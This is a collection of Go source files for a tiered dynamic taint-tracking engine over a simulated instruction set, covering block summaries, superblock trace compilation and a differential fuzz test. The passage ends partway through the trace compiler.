// re-attempt compilation — compilation is deterministic, so it pins
// again).
func (h *Harrier) PreExec(p *vos.Process) {
	for _, s := range p.CPU.Code.Spans() {
		for i := range s.Instrs {
			if sum, ok := s.BBSummary(i).(*blockSummary); ok && sum.owner == h {
				h.stats.TierDemoted++
			}
		}
		s.DropSummaries()
	}
}
