package harrier

import (
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/vos"
)

// Tier state machine. Every block starts in the interpreter tier
// (per-instruction Hooks.OnInstr dispatch). When its frequency
// counter — the one Collect_BB_Frequency already maintains — reaches
// Config.PromoteThreshold, the block is compiled once:
//
//   - compilable  -> a *blockSummary lands in the span's summary slot
//     and subsequent entries take the Hooks.OnBBSummary fast path;
//   - unmodelable -> a tierPinned marker lands in the slot, recording
//     that compilation was attempted and must not be retried: the
//     block stays in the interpreter tier permanently.
//
// A summarized block that stays hot climbs once more: when its counter
// reaches Config.TraceThreshold, the summary-tier handler compiles a
// superblock trace (trace.go) rooted at the block and installs it in
// the same slot, keeping the summary as the trace head for budget
// fallback. A block whose trace compilation yields nothing is pinned
// at the summary tier via blockSummary.traceTried.
//
// Demotion happens on execve: the process's code map is about to be
// torn down, so PreExec drops every summary installed on its spans
// (spans can be shared with a forked parent, which simply re-promotes
// on its next hot entry — the trigger fires whenever the counter is
// past the threshold and the slot is empty). Exited processes need no
// demotion: their spans die with them, and spans shared with live
// relatives remain valid because spans are immutable.

// tierPinned marks a block whose compilation failed: permanently
// interpreter-tier, never recompiled (until the slot is dropped).
type tierPinned struct{}

// blockSummary is an installed summary plus the apply-time context
// that lets the fast path skip collectBBFrequency entirely: the
// block's frequency counter, its attribution key, and whether it
// belongs to the application image.
type blockSummary struct {
	Summary
	owner      *Harrier
	ctr        *int64
	key        bbKey
	isApp      bool
	traceTried bool

	// clean is the fourth-tier demotion state (see cleantier.go):
	// footprint eligibility plus cached clean verdicts.
	clean cleanState
}

// maybePromote is the tier transition, called from collectBBFrequency
// once the counter passes the threshold and the slot is empty.
// Out of line: the interpreter tier pays one compare per block entry.
//
//go:noinline
func (h *Harrier) maybePromote(c *isa.CPU, s *isa.Span, leader int, key bbKey, ctr *int64) {
	sum, ok := compileBlock(h.Store, s, leader, h.binTag(s.Image), h.hwTag)
	if !ok {
		s.SetBBSummary(leader, tierPinned{})
		h.stats.TierPinned++
		return
	}
	p := c.Ctx.(*vos.Process)
	bs := &blockSummary{
		Summary: *sum,
		owner:   h,
		ctr:     ctr,
		key:     key,
		isApp:   s.Image == p.Path,
	}
	if h.cleanThreshold > 0 {
		// A summary's addresses are entry-relative by construction, so
		// eligibility only depends on the footprint caps.
		bs.clean.initFootprint(sum.ops)
	}
	s.SetBBSummary(leader, bs)
	h.stats.TierPromoted++
	if h.bus != nil {
		h.bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBPromote,
			PID: int32(p.PID), Num: uint64(key.addr), Num2: uint64(len(sum.ops)),
			Str: key.image,
		})
	}
}

// onBBSummary is the Hooks.OnBBSummary handler: the whole-block (or
// whole-trace) fast path. A *blockSummary entry may first climb to the
// trace tier if its counter has reached the trace threshold; otherwise
// the summary is applied and the fetch loop executes the block with
// OnBB/OnInstr suppressed. A *blockTrace entry executes the compiled
// trace outright — the fetch loop skips the covered instructions
// entirely.
func (h *Harrier) onBBSummary(c *isa.CPU, s *isa.Span, leader int, summary any) (isa.SummaryAction, error) {
	switch sum := summary.(type) {
	case *blockSummary:
		if sum.owner != h || c.Shadow == nil {
			return isa.SummaryDecline, nil
		}
		if h.traceThreshold > 0 && !sum.traceTried && *sum.ctr >= h.traceThreshold {
			sum.traceTried = true
			if tr := h.maybeTrace(c, s, leader, sum); tr != nil {
				s.SetBBSummary(leader, tr)
				return h.enterTrace(c, tr)
			}
		}
		if h.applySummary(c, sum) {
			return isa.SummaryClean, nil
		}
		return isa.SummaryBlock, nil
	case *blockTrace:
		if sum.head.owner != h || c.Shadow == nil {
			return isa.SummaryDecline, nil
		}
		return h.enterTrace(c, sum)
	}
	return isa.SummaryDecline, nil
}

// enterTrace dispatches a trace entry. When the remaining quantum
// cannot fit even the first block, the head summary runs instead —
// the trace would immediately budget-exit at its first mBBEnter
// without retiring anything, so the entry must make progress the
// summary way. This also guarantees the executor that the head block
// never budget-exits.
func (h *Harrier) enterTrace(c *isa.CPU, tr *blockTrace) (isa.SummaryAction, error) {
	budget := c.TraceBudget
	if budget > 0 && tr.blocks[0].instrs > budget {
		if h.applySummary(c, tr.head) {
			return isa.SummaryClean, nil
		}
		return isa.SummaryBlock, nil
	}
	if h.tt != nil {
		h.tt.Touch(obs.TierTrace)
	}
	return isa.SummaryTrace, h.runTrace(c, tr, budget)
}

// applySummary reproduces exactly what one interpreter-tier traversal
// of the block performs — the frequency count, the last-app
// attribution, the instrumented-instruction statistics with their
// sampling boundary, and the taint transfer. It returns true when the
// clean tier served the entry: every observable side effect above
// still happened, but the transfer was proven a no-op and skipped
// (the caller answers SummaryClean so the block runs uninstrumented).
func (h *Harrier) applySummary(c *isa.CPU, sum *blockSummary) bool {
	h.stats.Blocks++
	ctr := sum.ctr
	*ctr++
	if h.prov != nil {
		// Same execution point as the interpreter tier's scan (block
		// entry, before any of the block's transfers apply), so the
		// attribution stream is tier-independent up to the tier flag.
		p := c.Ctx.(*vos.Process)
		h.provBlockScan(c, p.OS.Clock, int32(p.PID), sum.key.addr, sum.key.image, true)
	}
	if h.bus != nil && uint64(*ctr)&(bbRollQuantum-1) == 0 {
		h.publishBBRoll(c, sum, *ctr)
	}
	if sum.isApp {
		p := c.Ctx.(*vos.Process)
		if p.PID != h.appCachePID {
			h.flushApp()
			h.appCachePID = p.PID
		}
		h.appCacheKey = sum.key
	}
	// Batch-increment the instrumented-instruction counter; publish a
	// taint sample whenever the batch crosses the same quantum boundary
	// the per-instruction increment would have hit.
	old := h.stats.Instructions
	h.stats.Instructions = old + sum.nData
	if h.bus != nil && old>>taintSampleShift != h.stats.Instructions>>taintSampleShift {
		h.publishTaintSample(c)
	}
	if sum.clean.ok && *ctr >= h.cleanThreshold && h.cleanThreshold > 0 &&
		h.cleanProbeSum(c, sum) {
		h.stats.CleanHits++
		if h.tt != nil {
			h.tt.Touch(obs.TierClean)
		}
		return true
	}
	h.stats.TierHits++
	if h.tt != nil {
		h.tt.Touch(obs.TierSummary)
	}
	h.applyOps(c, sum.ops)
	return false
}

// publishBBRoll emits the rollover event for a summary-tier counter;
// out of line to keep the accept path lean.
//
//go:noinline
func (h *Harrier) publishBBRoll(c *isa.CPU, sum *blockSummary, n int64) {
	p := c.Ctx.(*vos.Process)
	h.bus.Publish(obs.Event{
		Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBRoll,
		PID: int32(p.PID), Num: uint64(sum.key.addr), Num2: uint64(n),
		Str: sum.key.image,
	})
}

// PreExec implements vos.PreExecMonitor: execve is about to tear down
// p's code map, so every summary compiled against its spans is
// dropped. Summaries and traces owned by this Harrier count as
// demotions; pinned markers are dropped too (a span surviving via a
// forked relative may re-attempt compilation — compilation is
// deterministic, so it pins again).
func (h *Harrier) PreExec(p *vos.Process) {
	for _, s := range p.CPU.Code.Spans() {
		for i := range s.Instrs {
			switch sum := s.BBSummary(i).(type) {
			case *blockSummary:
				if sum.owner == h {
					h.stats.TierDemoted++
				}
			case *blockTrace:
				if sum.head.owner == h {
					h.stats.TierTraceDemoted++
				}
			}
		}
		s.DropSummaries()
	}
}
