package harrier

import (
	"errors"
	"testing"

	"repro/internal/isa"
	"repro/internal/taint"
)

// FuzzSummaryApply is the tiered engine's differential oracle at the
// single-block level: a pseudo-random straight-line block runs once
// under the interpreter tier (per-instruction trackDataFlow) and once
// with its compiled summary pre-applied at block entry, starting from
// the same concrete registers, memory and taint state, against one
// shared tag store. When neither execution faults, the final register
// tags and the shadow bytes over the whole addressable window must be
// identical tag IDs. A mid-block fault voids the comparison by
// design: the process dies and its taint state is unreachable, which
// is exactly the argument that makes whole-block application sound.
func FuzzSummaryApply(f *testing.F) {
	f.Add([]byte{0x02, 0x00, 0x00, 0x10})          // mov eax, [0x40]
	f.Add([]byte{0x05, 0x09, 0x00, 0x20, 0x02, 0x11, 0x00, 0x08}) // alu + mov mix
	f.Add([]byte{0x14, 0x03, 0x00, 0x00, 0x15, 0x01, 0x00, 0x00}) // push/pop
	f.Add([]byte{0x0d, 0x00, 0x00, 0x00, 0x0e, 0x02, 0x00, 0x00}) // not/neg
	f.Add([]byte{0x16, 0x00, 0x00, 0x00, 0x17, 0x00, 0x00, 0x00}) // cpuid/rdtsc

	f.Fuzz(func(t *testing.T, data []byte) {
		span := buildFuzzSpan(data)
		h := New(Config{Dataflow: true}, nil)

		sum, ok := CompileSummary(h.Store, span, 0)
		if !ok {
			return // pinned shape: interpreter-only, nothing to compare
		}
		if again, ok2 := CompileSummary(h.Store, span, 0); !ok2 || sum.String() != again.String() {
			t.Fatalf("nondeterministic compile:\n--- first\n%s--- second\n%s", sum, again)
		}

		cA := newFuzzCPU(span, h.Store, data)
		cA.Hooks.OnInstr = h.trackDataFlow
		cA.Hooks.OnInstrData = true
		faultA := runToHalt(cA)

		cB := newFuzzCPU(span, h.Store, data)
		h.applyOps(cB, sum.ops)
		faultB := runToHalt(cB)

		if cA.Regs != cB.Regs || faultA != faultB {
			t.Fatalf("concrete divergence: regs %v vs %v, fault %v vs %v",
				cA.Regs, cB.Regs, faultA, faultB)
		}
		if faultA {
			return // over-applied flows are unobservable after a fault
		}
		if cA.RegTags != cB.RegTags {
			t.Fatalf("register tag divergence:\n  block:\n%s  interp: %v\n  summary: %v",
				sum, cA.RegTags, cB.RegTags)
		}
		for addr := uint32(0); addr < 0x3000; addr++ {
			if ta, tb := cA.Shadow.Get(addr), cB.Shadow.Get(addr); ta != tb {
				t.Fatalf("shadow divergence at %#x: interp tag%d, summary tag%d\n  block:\n%s",
					addr, ta, tb, sum)
			}
		}
	})
}

// fuzzOps are the opcodes the generator draws from: every data-moving
// shape the compiler models, minus CALL (ends the block mid-stream).
// DIVOP/MODOP stay in deliberately — their runtime faults exercise the
// fault-voids-comparison path.
var fuzzOps = [...]isa.Op{
	isa.MOV, isa.MOVB, isa.LEA,
	isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
	isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR,
	isa.NOT, isa.NEG, isa.INC, isa.DEC,
	isa.CMP, isa.TEST, isa.NOP,
	isa.PUSH, isa.POP,
	isa.CPUID, isa.RDTSC,
}

// buildFuzzSpan decodes 4 bytes per instruction into a straight-line
// block ending in HLT. Displacements are kept small so the bulk of
// the traffic stays inside the compared shadow window.
func buildFuzzSpan(data []byte) *isa.Span {
	var instrs []isa.Instr
	for len(data) >= 4 && len(instrs) < 24 {
		b0, b1, b2, b3 := data[0], data[1], data[2], data[3]
		data = data[4:]
		in := isa.Instr{Op: fuzzOps[int(b0)%len(fuzzOps)]}
		in.A = fuzzOperand(b1, b3)
		in.B = fuzzOperand(b2, b3>>1)
		instrs = append(instrs, in)
	}
	instrs = append(instrs, isa.Instr{Op: isa.HLT})
	return isa.NewSpan(0x10000, "fuzz", instrs, nil)
}

// fuzzOperand decodes one operand: register, small immediate,
// absolute memory, or base+displacement memory.
func fuzzOperand(sel, disp byte) isa.Operand {
	r := isa.Reg(sel & 7)
	switch (sel >> 3) & 3 {
	case 0:
		return isa.R(r)
	case 1:
		return isa.Imm(uint32(disp) << 2)
	case 2:
		return isa.Operand{Kind: isa.MemOperand, Imm: 0x400 + uint32(disp)<<2}
	}
	return isa.Operand{Kind: isa.MemOperand, Reg: r, HasBase: true, Imm: uint32(disp) << 2}
}

// newFuzzCPU builds a CPU at the span's entry with a deterministic
// initial state derived from the fuzz input: small register values
// (so memory operands stay near the compared window), a sane stack
// pointer, and a few seeded register and shadow tags.
func newFuzzCPU(span *isa.Span, st *taint.Store, data []byte) *isa.CPU {
	c := isa.NewCPU()
	c.Code.Add(span)
	c.EIP = span.Base
	c.Shadow = taint.NewShadow(st)

	t1 := st.Of(taint.Source{Type: taint.UserInput, Name: "stdin"})
	t2 := st.Of(taint.Source{Type: taint.Socket, Name: "10.0.0.1:99"})
	tags := [4]taint.Tag{taint.Empty, t1, t2, st.Union(t1, t2)}

	var seed byte
	for _, b := range data {
		seed ^= b
	}
	for r := 0; r < int(isa.NumRegs); r++ {
		c.Regs[r] = uint32(seed^byte(r*37)) << 3 // < 0x800
		c.RegTags[r] = tags[(int(seed)+r)>>1&3]
	}
	c.Regs[isa.ESP] = 0x2800
	c.RegTags[isa.ESP] = taint.Empty
	for i := uint32(0); i < 8; i++ {
		c.Shadow.SetWord(0x400+i*4, tags[(uint32(seed)+i)&3])
		c.Mem.Store32(0x400+i*4, 0x11111111*i)
	}
	return c
}

// runToHalt steps the CPU to completion, reporting whether it died on
// a fault rather than reaching HLT.
func runToHalt(c *isa.CPU) (faulted bool) {
	for i := 0; i < 256; i++ {
		err := c.Step()
		if err == nil {
			continue
		}
		var f *isa.Fault
		if errors.As(err, &f) {
			return true
		}
		return false // ErrHalted: clean HLT
	}
	return false
}
