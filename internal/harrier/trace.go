package harrier

import (
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/taint"
)

// This file is the third execution tier of the tiered taint engine:
// superblock traces. Where the summary tier (tier.go / summary.go)
// replaces per-instruction dispatch with one taint-transfer call per
// block and still lets the interpreter execute the block's
// instructions, a trace goes the rest of the way: it chains hot blocks
// across unconditional and predicted-conditional edges into one linear
// sequence of fused micro-ops (mops) and *executes* them — taint
// transfer and concrete semantics together — in a single hook call.
// The interpreter's fetch/decode/hook loop disappears entirely for as
// long as execution follows the traced path.
//
// Each mop reproduces one guest instruction in the interpreter's
// order: the Track_DataFlow transfer first (the OnInstr hook runs
// before the instruction executes), then the concrete operation.
// Conditional branches are evaluated against live flags; when the
// actual direction disagrees with the traced direction the run side-
// exits, leaving EIP at the untraced target so the interpreter (or a
// summary, or another trace) picks up at a genuine block entry. Every
// run of a trace therefore executes a *prefix* of the recorded path,
// which is what makes the exit protocol and the clean-taint gate below
// sound.
//
// The clean-taint gate is the dynamic form of the partial-
// instrumentation observation (PAPERS.md, Thakur 2024): the vast
// majority of hot code moves already-tagged data over identically-
// tagged destinations, so its taint transfer is a no-op. The gate
// detects that stationarity per trace. A *verify* run executes the
// full transfer while checking that no register tag and no shadow tag
// actually changed (shadow changes are observable as a Shadow.Gen
// movement, register changes via compare-before-write). A clean verify
// run installs a gate entry keyed by everything the trace's taint
// effect can depend on: the shadow (identity and generation), the
// entry tags of all eight registers, and the concrete entry values of
// the registers that form taint-relevant addresses (found by running
// the summary compiler's symbolic address domain over the whole path —
// a trace whose taint addresses are not expressible as entry-register
// + displacement is never gated). A later entry matching the key runs
// the *bare* variant — concrete execution only, no taint transfer at
// all — up to the mop index the verify run covered. Prefix soundness:
// each verified mop's transfer depends only on the keyed state, so
// skipping it is exact, not approximate; detections stay bit-identical
// (TestTraceDifferentialSweep) while the gated loop pays zero shadow
// and union traffic.
const (
	// traceMaxInstrs caps the guest instructions one trace may retire,
	// below the scheduler's 128-instruction slice so a full run fits a
	// fresh quantum; traceMaxBlocks bounds loop unrolling.
	traceMaxInstrs = 96
	traceMaxBlocks = 32
	// traceNoBase in a mop base slot marks an absolute address.
	traceNoBase = 0xFF
	// Clean-taint gate geometry: cached verdicts per trace, and the
	// most address-forming entry registers a gated trace may have.
	// Ways are sized for loops whose entry register values cycle
	// through more phases than a handful (scheduler slices cutting a
	// loop trace at varying offsets produce exactly that pattern).
	traceGateWays = 16
	traceGateRegs = 4
)

// mopCode selects a fused micro-op. The set covers every instruction
// shape the dataflow analysis tracks plus compares and predicted
// branches; shapes the interpreter would fault on (writes to
// immediates, POP into memory) end the trace at compile time instead.
type mopCode uint8

const (
	mBBEnter mopCode = iota // block boundary: budget check + per-block effects
	mBr                     // conditional branch, predicted direction

	mMovRR // mov reg, reg
	mMovRI // mov reg, imm
	mMovRM // mov reg, [mem]
	mMovMR // mov [mem], reg
	mMovMI // mov [mem], imm
	mMovMM // mov [mem], [mem]

	mMovbRR // movb variants (byte granularity)
	mMovbRI
	mMovbRM
	mMovbMR
	mMovbMI
	mMovbMM

	mLea   // lea reg, [mem]
	mZeroR // xor/sub reg,reg zeroing idiom

	mAluRR // dst = dst OP src, flags
	mAluRI
	mAluRM
	mAluMR
	mAluMI
	mAluMM

	mUnR // not/neg/inc/dec reg
	mUnM // not/neg/inc/dec [mem]

	mCmpRR // cmp/test: flags only
	mCmpRI
	mCmpRM
	mCmpMR
	mCmpMI
	mCmpMM

	mPushR
	mPushI
	mPushM
	mPopR

	mCpuid
	mRdtsc
)

// mop is one fused micro-op: taint transfer plus concrete execution
// of a single guest instruction. Memory addresses resolve against the
// *live* register file (base + disp), exactly as the interpreter
// would at that point of the block — no symbolic entry-relative form
// is needed because mops run in program order.
type mop struct {
	code  mopCode
	aop   uint8 // ALU/unary/compare opcode, or branch opcode for mBr
	reg   uint8 // destination register (source for the MR store shapes)
	reg2  uint8 // source register (RR shapes)
	base  uint8 // A-side (destination) memory base; traceNoBase = absolute
	base2 uint8 // B-side (source) memory base; traceNoBase = absolute
	pred  bool  // mBr: the traced direction is "taken"
	disp  uint32 // A-side displacement / RI immediate / mBr taken target / mBBEnter block index
	disp2 uint32 // B-side displacement / MI immediate / mBr fall-through target
	tag   taint.Tag // compile-time tag operand (BINARY of the owning image)
}

// mopInfo is the cold half of a mop, consulted only at exits and
// block boundaries: the instruction's guest address and the cumulative
// guest-instruction / data-instruction counts through it (through the
// *preceding* instruction for mBBEnter). Interleaved instructions that
// emit no mop — NOPs and followed unconditional jumps — are counted
// here, which is what keeps Steps and the scheduler's quantum
// accounting bit-identical to the interpreter across tiers.
type mopInfo struct {
	addr  uint32
	steps uint16
	nData uint16
}

// traceBlock is the per-block context of one chained (possibly
// unrolled) block: its frequency counter, attribution key, and how the
// traced path arrives at it (entryJumped mirrors the interpreter's
// jumped flag for a budget exit at this leader). instrs is the whole
// block's instruction count, used by the budget check at its entry.
type traceBlock struct {
	ctr         *int64
	key         bbKey
	isApp       bool
	entryJumped bool
	instrs      int
}

// gateEnt is one cached clean-taint verdict: with this shadow at this
// generation, these entry register tags and these address-register
// values, the trace's taint transfer is a no-op through mop index end.
type gateEnt struct {
	sh   *taint.Shadow
	gen  uint64
	end  int
	vals [traceGateRegs]uint32
	tags [isa.NumRegs]taint.Tag
}

// blockTrace is a compiled superblock trace, installed in the entry
// leader's summary slot in place of its *blockSummary (which it keeps
// as head, both for ownership checks and as the fallback when the
// remaining quantum cannot fit even the first block).
type blockTrace struct {
	head   *blockSummary
	mops   []mop
	info   []mopInfo
	blocks []traceBlock

	// clean is the fourth-tier demotion state (see cleantier.go). Only
	// initialized when the symbolic gate held for the whole path
	// (gateOK), because the footprint is derived from the same
	// entry-relative symbolic address stream.
	clean cleanState

	nInstr    uint16 // instructions retired by a full run
	nData     uint16 // data-moving instructions instrumented by a full run
	endEIP    uint32 // exit point of a full run
	endJumped bool

	// Clean-taint gate state. gateOK is decided at compile time; the
	// entries are filled by verify runs and replaced round-robin.
	gateOK bool
	nIn    int
	inRegs [traceGateRegs]uint8
	gate   [traceGateWays]gateEnt
	gateN  int
	gateRR int
}

// ea resolves the A-side (destination) memory address of a mop.
func (op *mop) ea(c *isa.CPU) uint32 {
	if op.base != traceNoBase {
		return c.Regs[op.base] + op.disp
	}
	return op.disp
}

// ea2 resolves the B-side (source) memory address of a mop.
func (op *mop) ea2(c *isa.CPU) uint32 {
	if op.base2 != traceNoBase {
		return c.Regs[op.base2] + op.disp2
	}
	return op.disp2
}

// --- trace compilation --------------------------------------------

// traceCompiler walks the hot path from a head leader, chaining block
// after block into the mop program. It carries the summary compiler's
// symbolic address domain (sc) in parallel — not for emission, but to
// decide clean-taint gate eligibility: the gate is sound only when
// every taint-touching address of the whole path is expressible as
// entry-register + displacement.
type traceCompiler struct {
	h      *Harrier
	s      *isa.Span
	bin    taint.Tag
	mops   []mop
	info   []mopInfo
	blocks []traceBlock
	steps  int
	nData  int

	sc     sumCompiler
	gateOK bool

	endEIP    uint32
	endJumped bool
}

// maybeTrace compiles a superblock trace rooted at leader and
// publishes the promotion event. It returns nil when the head block
// yields no traceable prefix (the caller pins the attempt on the
// summary so it is never retried).
func (h *Harrier) maybeTrace(c *isa.CPU, s *isa.Span, leader int, head *blockSummary) *blockTrace {
	tr := h.compileTrace(s, leader, head)
	if tr == nil {
		return nil
	}
	h.stats.TraceCompiled++
	if h.bus != nil {
		if p := procOf(c); p != nil {
			h.bus.Publish(obs.Event{
				Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBTrace,
				PID: int32(p.PID), Num: uint64(head.key.addr), Num2: uint64(len(tr.mops)),
				Str: head.key.image,
			})
		}
	}
	return tr
}

// traceCtr resolves (or creates) the frequency counter of a chained
// block; chained blocks may never have been entered directly.
func (h *Harrier) traceCtr(key bbKey) *int64 {
	ctr := h.bbFreq[key]
	if ctr == nil {
		ctr = new(int64)
		h.bbFreq[key] = ctr
	}
	return ctr
}

// compileTrace builds the mop program for the superblock rooted at
// leader. Chaining follows in-span unconditional jumps and predicted
// conditional edges (backward target = taken, the classic loop
// heuristic) until a cap, an un-traceable instruction, or an
// un-followable terminal ends the path. The terminal is *not*
// consumed: the trace exits with EIP on it and the interpreter
// executes it with its ordinary hooks, so CALL/RET/INT/NATIVE/HLT
// semantics never need replicating here.
func (h *Harrier) compileTrace(s *isa.Span, leader int, head *blockSummary) *blockTrace {
	bin := h.binTag(s.Image)
	tc := &traceCompiler{h: h, s: s, bin: bin, gateOK: true}
	tc.sc = sumCompiler{st: h.Store, bin: bin, hw: h.hwTag}
	for r := range tc.sc.sym {
		tc.sc.sym[r] = symVal{kind: symRegOff, reg: isa.Reg(r)}
	}

	cur := leader
	arrived := true // the head is always entered through the dispatch hook
walk:
	for {
		last := cur
		for last+1 < len(s.Instrs) && s.BBLeader[last+1] == cur {
			last++
		}
		blockN := last - cur + 1
		if len(tc.blocks) >= traceMaxBlocks || tc.steps+blockN > traceMaxInstrs {
			tc.endEIP, tc.endJumped = s.Addr(cur), arrived
			break walk
		}
		bIdx := len(tc.blocks)
		mopStart := len(tc.mops)
		key := bbKey{s.Image, s.Addr(cur)}
		tc.blocks = append(tc.blocks, traceBlock{
			ctr: h.traceCtr(key), key: key, isApp: head.isApp,
			entryJumped: arrived, instrs: blockN,
		})
		tc.emit(mop{code: mBBEnter, disp: uint32(bIdx)}, s.Addr(cur))
		consumed := 0
		for i := cur; i <= last; i++ {
			in := &s.Instrs[i]
			if in.Op.IsControlTransfer() {
				// Only the block's final instruction can be a transfer.
				if in.Op == isa.JMP && in.A.Kind == isa.ImmOperand && s.Contains(in.A.Imm) {
					// Followed jump: consumed, but emits no mop.
					tc.steps++
					tc.scStep(in)
					cur, arrived = s.Index(in.A.Imm), true
					continue walk
				}
				if in.Op.IsCondJump() && in.A.Kind == isa.ImmOperand {
					taken := in.A.Imm
					fall := s.Addr(i) + isa.InstrSize
					takenIn := s.Contains(taken)
					fallIn := i+1 < len(s.Instrs)
					var pred bool
					switch {
					case takenIn && taken <= s.Addr(i):
						pred = true // backward branch: predict the loop edge
					case fallIn:
						pred = false
					case takenIn:
						pred = true
					default:
						tc.endBefore(i, cur, bIdx, mopStart, consumed, arrived)
						break walk
					}
					tc.steps++
					tc.scStep(in)
					tc.emit(mop{
						code: mBr, aop: uint8(in.Op), pred: pred,
						disp: taken, disp2: fall,
					}, s.Addr(i))
					if pred {
						cur = s.Index(taken)
					} else {
						cur = i + 1
					}
					arrived = true // the interpreter marks cond jumps as transfers either way
					continue walk
				}
				// CALL/RET/INT/NATIVE/HLT, or a jump the path cannot
				// follow: leave it to the interpreter.
				tc.endBefore(i, cur, bIdx, mopStart, consumed, arrived)
				break walk
			}
			if !tc.instr(i, in) {
				tc.endBefore(i, cur, bIdx, mopStart, consumed, arrived)
				break walk
			}
			consumed++
		}
		if tc.endEIP != 0 || len(tc.blocks) == 0 {
			break walk // endBefore fired from the body loop
		}
		if last+1 >= len(s.Instrs) {
			// The block runs off the span without a transfer; the
			// interpreter faults on the next fetch exactly here.
			tc.endEIP, tc.endJumped = s.End(), false
			break walk
		}
		cur, arrived = last+1, false // fall-through into the next leader
	}
	if tc.steps == 0 {
		return nil
	}
	tr := &blockTrace{
		head: head, mops: tc.mops, info: tc.info, blocks: tc.blocks,
		nInstr: uint16(tc.steps), nData: uint16(tc.nData),
		endEIP: tc.endEIP, endJumped: tc.endJumped,
		gateOK: tc.gateOK,
	}
	if tr.gateOK {
		// Footprint first: collectGateRegs may clear gateOK when the
		// input set overflows, but the footprint derivation only needs
		// the symbolic address stream, which held for the whole path.
		if h.cleanThreshold > 0 {
			tr.clean.initFootprint(tc.sc.ops)
		}
		tr.collectGateRegs(tc.sc.ops)
	}
	return tr
}

// endBefore ends the path at instruction i without consuming it. If
// the current block contributed nothing yet, the block itself is
// rolled back so the interpreter's OnBB at the exit leader is the
// block's one and only entry; otherwise the exit lands mid-block,
// where the interpreter resumes without a block-entry hook.
func (tc *traceCompiler) endBefore(i, leader, bIdx, mopStart, consumed int, arrived bool) {
	if consumed == 0 {
		tc.mops = tc.mops[:mopStart]
		tc.info = tc.info[:mopStart]
		tc.blocks = tc.blocks[:bIdx]
		tc.endEIP, tc.endJumped = tc.s.Addr(leader), arrived
		return
	}
	tc.endEIP, tc.endJumped = tc.s.Addr(i), false
}

func (tc *traceCompiler) emit(m mop, addr uint32) {
	tc.mops = append(tc.mops, m)
	tc.info = append(tc.info, mopInfo{addr: addr, steps: uint16(tc.steps), nData: uint16(tc.nData)})
}

// scStep advances the symbolic address domain across one consumed
// instruction; the first inexpressible address disables the gate for
// the whole trace (the trace itself stays valid — it simply always
// runs with full taint transfer).
func (tc *traceCompiler) scStep(in *isa.Instr) {
	if tc.gateOK && !tc.sc.instr(in) {
		tc.gateOK = false
	}
}

// instr emits the fused mop for one non-control instruction,
// returning false when the shape is un-traceable (operand forms the
// interpreter faults on, POP into memory with its pre/post-ESP
// address split, statically-zero divisors, undefined opcodes).
func (tc *traceCompiler) instr(i int, in *isa.Instr) bool {
	aBase, aDisp := traceNoBase, uint32(0)
	bBase, bDisp := traceNoBase, uint32(0)
	if in.A.Kind == isa.MemOperand {
		if in.A.HasBase {
			aBase = int(in.A.Reg)
		}
		aDisp = in.A.Imm
	}
	if in.B.Kind == isa.MemOperand {
		if in.B.HasBase {
			bBase = int(in.B.Reg)
		}
		bDisp = in.B.Imm
	}
	var m mop
	switch in.Op {
	case isa.NOP:
		tc.steps++
		tc.scStep(in)
		return true

	case isa.MOV, isa.MOVB:
		var codes [6]mopCode
		if in.Op == isa.MOV {
			codes = [6]mopCode{mMovRR, mMovRI, mMovRM, mMovMR, mMovMI, mMovMM}
		} else {
			codes = [6]mopCode{mMovbRR, mMovbRI, mMovbRM, mMovbMR, mMovbMI, mMovbMM}
		}
		switch {
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: codes[0], reg: uint8(in.A.Reg), reg2: uint8(in.B.Reg)}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: codes[1], reg: uint8(in.A.Reg), disp: in.B.Imm, tag: tc.bin}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.MemOperand:
			m = mop{code: codes[2], reg: uint8(in.A.Reg), base2: uint8(bBase), disp2: bDisp}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: codes[3], base: uint8(aBase), disp: aDisp, reg: uint8(in.B.Reg)}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: codes[4], base: uint8(aBase), disp: aDisp, disp2: in.B.Imm, tag: tc.bin}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.MemOperand:
			m = mop{code: codes[5], base: uint8(aBase), disp: aDisp, base2: uint8(bBase), disp2: bDisp}
		default:
			return false
		}

	case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
		isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR:
		if (in.Op == isa.XOR || in.Op == isa.SUB) &&
			in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand &&
			in.A.Reg == in.B.Reg {
			m = mop{code: mZeroR, reg: uint8(in.A.Reg)}
			break
		}
		if (in.Op == isa.DIVOP || in.Op == isa.MODOP) &&
			in.B.Kind == isa.ImmOperand && in.B.Imm == 0 {
			return false // statically faults; leave it to the interpreter
		}
		aop := uint8(in.Op)
		switch {
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: mAluRR, aop: aop, reg: uint8(in.A.Reg), reg2: uint8(in.B.Reg)}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: mAluRI, aop: aop, reg: uint8(in.A.Reg), disp: in.B.Imm, tag: tc.bin}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.MemOperand:
			m = mop{code: mAluRM, aop: aop, reg: uint8(in.A.Reg), base2: uint8(bBase), disp2: bDisp}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: mAluMR, aop: aop, base: uint8(aBase), disp: aDisp, reg: uint8(in.B.Reg)}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: mAluMI, aop: aop, base: uint8(aBase), disp: aDisp, disp2: in.B.Imm, tag: tc.bin}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.MemOperand:
